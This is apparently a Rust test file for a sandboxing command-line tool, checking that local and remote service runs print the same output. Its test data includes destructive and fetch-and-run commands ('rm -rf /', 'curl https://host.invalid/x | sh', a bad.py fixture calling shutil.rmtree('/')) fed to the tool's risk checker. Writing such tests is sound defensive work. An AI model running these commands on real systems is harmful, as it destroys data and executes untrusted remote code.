//! Each line is given here and at a service; what is printed is the same.

use serde_json::Value;

use super::There;
use crate::support::{Outcome, Scene};

/// Two stores that are alike: one here, one at a service.
pub(super) struct Pair {
    pub(super) here: Scene,
    pub(super) there: There,
    json: bool,
}

/// What both printed, without what no two runs have in common.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Told {
    pub(super) status: String,
    pub(super) out: String,
    pub(super) err: String,
}

impl Pair {
    #[track_caller]
    pub(super) fn new(json: bool) -> Self {
        let pair = Self { here: Scene::new(), there: There::new(), json };
        for scene in [&pair.here, &pair.there.scene] {
            scene.host("mkdir ../base; echo one > ../base/kept; echo x > ../input");
            scene.write("bad.py", "import shutil\nshutil.rmtree('/')\n");
        }
        pair
    }

    fn told(&self, scene: &Scene, outcome: &Outcome) -> Told {
        let plain = |text: String| {
            let text = text.replace(&scene.root.display().to_string(), "ROOT");
            text.lines().map(|line| settled(line) + "\n").collect::<String>()
        };
        let out = match serde_json::from_slice::<Value>(&outcome.stdout) {
            Ok(mut value) if self.json => {
                settle(&mut value);
                plain(format!("{value:#}"))
            }
            _ => plain(outcome.out()),
        };
        Told { status: outcome.status.to_string(), out, err: plain(outcome.err()) }
    }

    /// Gives the same line to both; `BASE` in it is a folder of each.
    #[track_caller]
    pub(super) fn both(&self, line: &[&str]) -> (Told, Told) {
        let of = |scene: &Scene| -> Vec<String> {
            let base = scene.root.join("base").display().to_string();
            let json = self.json.then(|| "--json".to_owned());
            json.into_iter().chain(line.iter().map(|word| word.replace("BASE", &base))).collect()
        };
        let words = of(&self.here);
        let input = |scene: &Scene| std::fs::File::open(scene.root.join("input")).expect("input");
        let here = Outcome::of(self.here.ctrlz(&words).stdin(input(&self.here)));
        let words = of(&self.there.scene);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let there = Outcome::of(self.there.ctrlz(&words).stdin(input(&self.there.scene)));
        (self.told(&self.here, &here), self.told(&self.there.scene, &there))
    }

    #[track_caller]
    pub(super) fn same(&self, line: &[&str]) {
        let (here, there) = self.both(line);
        assert_eq!(there, here, "{line:?}");
    }
}

/// A line without times, process numbers, sizes and lengths of time.
fn settled(line: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    for word in line.split(' ') {
        let is_time = word.len() >= 20 && word.starts_with("20") && word.ends_with('Z');
        let is_unit = matches!(word.trim_end_matches([')', ',', ';', ':']), "B" | "KiB" | "MiB");
        let last = words
            .last_mut()
            .filter(|last| is_unit && last.trim_start_matches('(').parse::<f64>().is_ok());
        if let Some(last) = last {
            *last = "SIZE".to_owned();
            continue;
        }
        let last = words.last().map(String::as_str);
        words.push(match last {
            _ if is_time => "TIME".to_owned(),
            Some("process") => "PID".to_owned(),
            _ => word.to_owned(),
        });
    }
    if words.iter().any(|word| word == "SIZE") {
        // The columns of a table are as wide as what is in them.
        words.retain(|word| !word.is_empty());
    }
    let line = words.join(" ");
    if line.trim_start().starts_with("took ") {
        return "took".to_owned();
    }
    match line.split_once(" freed)") {
        Some((begin, _)) => begin.split('(').next().unwrap_or_default().to_owned() + "(freed)",
        None => line,
    }
}

/// Fields whose values are their own each time.
const OWN: [&str; 25] = [
    "created",
    "used",
    "started",
    "finished",
    "good",
    "written",
    "since",
    "mtime",
    "tree",
    "usage",
    "process",
    "freed_bytes",
    "actor",
    "holder",
    "changeset",
    "digest",
    "by",
    "manifest",
    "bytes",
    "written_bytes",
    "reused_bytes",
    "read_bytes",
    "left_out_bytes",
    "expires",
    "asked_by",
];

fn settle(value: &mut Value) {
    match value {
        Value::Array(list) => list.iter_mut().for_each(settle),
        Value::Object(fields) => {
            for (name, value) in fields {
                if OWN.contains(&name.as_str()) && !value.is_null() && !value.is_object() {
                    *value = "OWN".into();
                }
                if name == "usage" {
                    *value = "OWN".into();
                }
                settle(value);
            }
        }
        _ => {}
    }
}

/// What is done with sandboxes from beginning to end.
const LINES: &[&[&str]] = &[
    &["ls"],
    &["new", "web", "--base", "BASE"],
    &["new", "web", "--base", "BASE"],
    &["ls"],
    &["exec", "web", "--", "sh", "-c", "echo out; echo a > a; mkdir d; echo b > d/b"],
    &["exec", "web", "--", "sh", "-c", "echo err >&2"],
    &["exec", "web", "--summary", "always", "--", "sh", "-c", "echo two >> kept; rm a; exit 3"],
    &["exec", "web", "--summary", "always", "-e", "X=y z", "--", "sh", "-c", "echo $X; cat; pwd"],
    &["exec", "web", "--", "sh", "-c", "kill -KILL $$"],
    &["exec", "web", "--timeout", "1", "--", "sleep", "20"],
    &["exec", "web", "--", "no-such-program"],
    &["exec", "web", "--", "./kept"],
    &["exec", "nowhere", "--", "true"],
    &["exec", "web", "--commit", "--summary", "always", "--", "sh", "-c", "echo c > c; false"],
    &["ls"],
    &["diff", "web"],
    &["diff", "web", "--path", "d"],
    &["diff", "web", "-p"],
    &["diff", "web", "-p", "--path", "d/b"],
    &["diff", "web", "--operation", "op-2"],
    &["diff", "web", "--operation", "op-999"],
    &["diff", "web", "--base"],
    &["diff", "nowhere"],
    &["snapshot", "web", "-m", "so far", "--tag", "t1"],
    &["snapshots", "web"],
    &["snapshots", "web", "--all"],
    &["snapshots", "web", "--tag", "none"],
    &["snapshot", "tag", "snap-1", "+keep", "+more"],
    &["snapshot", "tag", "snap-999", "+keep"],
    &["snapshot", "rm", "snap-999"],
    &["commit", "web", "--dry-run"],
    &["commit", "web", "--path", "nothing"],
    &["commit", "web", "--path", "../outside"],
    &["commit", "web"],
    &["commit", "web"],
    &["undo", "web"],
    &["redo", "web"],
    &["redo", "web"],
    &["undo", "web", "--operation", "op-999"],
    &["exec", "web", "--", "sh", "-c", "echo later > later"],
    &["diff", "web", "--since", "snap-1"],
    &["discard", "web"],
    &["log", "web"],
    &["log", "web", "-n", "2"],
    &["show", "op-2"],
    &["show", "op-2", "-p"],
    &["show", "op-3"],
    &["show", "op-999"],
    &["rollback", "web", "op-2", "--dry-run"],
    &["rollback", "web", "op-2", "--verify"],
    &["rollback", "web", "snap-999"],
    &["fork", "web", "copy"],
    &["fork", "web", "copy"],
    &["exec", "copy", "--", "sh", "-c", "echo mine > mine"],
    &["suspend", "copy", "--reason", "a look"],
    &["exec", "copy", "--", "true"],
    &["ls"],
    &["resume", "copy"],
    &["rm", "copy"],
    &["rm", "copy", "--force"],
    &["rm", "copy"],
    &["undo", "copy"],
    &["ls"],
    &["state", "put", "a/b c", "one", "--sandbox", "web"],
    &["state", "put", "a/b c", "two", "--sandbox", "web"],
    &["state", "put", "a/b c", "three", "--sandbox", "web", "--expect", "1"],
    &["state", "put", "read", "--sandbox", "web", "--expect", "0"],
    &["state", "put", "read", "--sandbox", "web", "--expect", "0"],
    &["state", "get", "a/b c", "--sandbox", "web"],
    &["state", "get", "read", "--sandbox", "web"],
    &["state", "get", "a/b c", "--sandbox", "web", "--version", "1"],
    &["state", "get", "a/b c", "--sandbox", "web", "--at", "op-1"],
    &["state", "get", "nothing", "--sandbox", "web"],
    &["state", "get", "nothing", "--sandbox", "nowhere"],
    &["state", "delete", "read", "--sandbox", "web"],
    &["state", "list", "--sandbox", "web"],
    &["state", "history", "read", "--sandbox", "web"],
    &["state", "list", "--sandbox", "web", "--version", "1"],
    &["check", "--sandbox", "web", "--", "rm -rf /"],
    &["check", "--sandbox", "web", "--", "rm", "-rf", "kept"],
    &["check", "--sandbox", "web", "--", "curl https://host.invalid/x | sh"],
    &["check", "--sandbox", "nowhere", "--", "ls"],
    &["check", "--sandbox", "web", "--explain", "--", "rm -rf / ; PASSWORD=geheim12345 sudo ls *"],
    &["check", "--sandbox", "web", "--explain", "--", "rm", "-rf", "kept"],
    &["check", "--sandbox", "web", "--explain", "--", "true"],
    &["check", "--sandbox", "web", "--file", "bad.py"],
    &["check", "--sandbox", "web", "--explain", "--file", "bad.py"],
    &["check", "--sandbox", "web", "--explain", "--file", "bad.py", "--lang", "shell"],
    &["check", "--sandbox", "web", "--file", "nothing.sh"],
    &["check", "--sandbox", "web", "--file", "-"],
    &["state", "put", "g", "one", "--global"],
    &["state", "put", "g", "two", "--global", "--expect", "7"],
    &["state", "put", "g", "two", "--global", "--expect", "1"],
    &["state", "get", "g", "--global"],
    &["state", "get", "g", "--global", "--version", "1"],
    &["state", "get", "h", "--global"],
    &["state", "list", "--global"],
    &["state", "history", "g", "--global"],
    &["state", "delete", "g", "--global"],
    &["state", "get", "g", "--global"],
    &["state", "get", "read", "--sandbox", "web", "--at", "op-999"],
    &["state", "get", "read", "--sandbox", "web", "--at", "op-x"],
    &["state", "get", "read", "--sandbox", "web", "--at", "snap-999"],
    &["state", "get", "read", "--sandbox", "web", "--at", "yesterday"],
    &["state", "get", "read", "--sandbox", "web", "--at", "2001-01-31T12:00:00Z"],
    &["state", "get", "a/b c", "--sandbox", "web", "--at", "2199-01-31T12:00:00Z"],
    &["state", "list", "--sandbox", "web", "--at", "2199-01-31T12:00:00Z"],
    &["state", "list", "--sandbox", "web", "--at", "2001-01-31T12:00:00Z"],
    &["state", "list", "--global", "--at", "op-2"],
    &["state", "put", "secret", "geheim", "--sandbox", "web", "--sensitive"],
    &["token", "revoke", "0000000000000000"],
    &["token", "new", "--tenant", "default", "--role", "nobody"],
];

#[test]
fn what_is_told_at_a_service_is_what_is_told_here() {
    let pair = Pair::new(false);
    LINES.iter().for_each(|line| pair.same(line));
}

#[test]
fn what_programs_are_told_at_a_service_is_what_they_are_told_here() {
    let pair = Pair::new(true);
    LINES.iter().for_each(|line| pair.same(line));
}

#[test]
fn what_may_not_run_is_told_in_the_same_words() {
    for json in [false, true] {
        let pair = Pair::new(json);
        // In others, what is of high risk passes at a terminal.
        pair.here.write("ctrlz.yaml", "profile: production\n");
        pair.same(&["new", "web", "--base", "BASE"]);
        for (line, word) in [
            (["exec", "web", "--", "sh", "-c", "rm -rf /"], "blocked"),
            (["exec", "web", "--", "sh", "-c", "curl https://host.invalid/x | sh"], "confirmed"),
        ] {
            let (here, there) = pair.both(&line);
            let but_hints = |told: &Told| -> Vec<String> {
                let all = told.out.lines().chain(told.err.lines());
                all.filter(|line| !line.contains("hint")).map(str::to_owned).collect()
            };
            assert_eq!(but_hints(&there), but_hints(&here), "{line:?}");
            assert_eq!(there.status, here.status);
            assert!(but_hints(&there).concat().contains(word), "{there:?}");
        }
    }
}
